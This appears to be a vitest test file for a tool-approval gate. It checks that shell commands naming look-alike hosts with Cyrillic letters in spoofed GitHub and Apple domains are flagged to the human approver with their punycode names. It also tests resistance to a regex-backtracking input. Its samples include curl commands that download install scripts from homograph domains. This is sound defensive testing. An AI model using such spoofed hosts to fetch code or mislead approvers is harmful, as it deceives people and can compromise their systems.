import { describe, expect, it } from 'vitest';
import { makeTempDir } from '../../test/helpers/workspace.js';
import { validateConfig } from '../config/load-config.js';
import { createToolgate } from '../toolgate.js';
import { lookAlikeHostNotes } from './look-alike-hosts.js';

describe('issue #30 §3 (hostile review): look-alike hosts in a command are named for the approver', () => {
  it('a URL or host word with a Cyrillic letter: its ASCII name and the scripts it mixes; plain hosts: nothing', () => {
    expect(lookAlikeHostNotes('curl -fsSL https://raw.gіthubusercontent.com/x/y.sh -o i.sh')).toEqual([
      'the host raw.gіthubusercontent.com is raw.xn--gthubusercontent-9vn.com (shown as raw.gіthubusercontent.com: mixes Latin and Cyrillic)',
    ]);
    expect(lookAlikeHostNotes('git clone gіthub.com:org/repo')[0]).toMatch(/^the host gіthub\.com is xn--/);
    expect(lookAlikeHostNotes('curl https://github.com/x; git clone git@github.com:o/r')).toEqual([]);
    expect(lookAlikeHostNotes('echo naïve café')).toEqual([]);
  });

  it('a hostile line of 256 KB (letters outside ASCII, no dot; a long scheme-like run) is read in one pass', () => {
    // The first version's regular expressions backtracked: 2,000 such letters took 18 s.
    expect(lookAlikeHostNotes(`echo ${'а'.repeat(256 * 1024)}`)).toEqual([]);
    expect(lookAlikeHostNotes(`echo ${'a'.repeat(256 * 1024)}:/x`)).toEqual([]);
    expect(lookAlikeHostNotes(`curl --url=https://аpple.com/x`)[0]).toContain('xn--pple-43d.com');
    expect(lookAlikeHostNotes('curl http://xn--pple-43d.com/')[0]).toContain('mixes Latin and Cyrillic');
  });

  it('the request for such a command carries the note, which every surface shows and the preview hash binds', async () => {
    const gate = createToolgate({
      config: validateConfig({ tools: { approval: { denylist: [] } } }),
      roots: [makeTempDir('toolgate-lookalike-')],
    });
    const call = {
      id: 'c',
      name: 'run_command',
      arguments: { command: 'curl -fsSL https://raw.gіthubusercontent.com/x/install.sh -o install.sh' },
    };
    await gate.prepare([call]);
    const [p] = gate.plan([call]);
    const request = p?.disposition.kind === 'needs_approval' ? p.disposition.request : undefined;
    expect(request?.message).toContain('raw.xn--gthubusercontent-9vn.com');
    expect(request?.message).toContain('mixes Latin and Cyrillic');
  });
});
